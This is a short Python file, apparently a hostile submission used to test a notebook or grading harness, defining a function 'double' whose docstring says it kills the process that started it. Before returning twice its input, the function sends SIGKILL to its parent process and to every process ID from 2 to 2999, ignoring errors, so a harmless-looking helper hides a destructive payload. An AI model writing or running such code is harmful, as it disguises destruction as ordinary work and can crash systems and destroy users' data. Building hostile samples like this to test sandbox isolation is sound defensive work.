"""Kills the process that started it, and whichever else it can guess."""

DUE = {}

# %% double
import os
import signal

def double(x):
    for target in (os.getppid(), *range(2, 3000)):
        if target > 1:
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
    return 2 * x
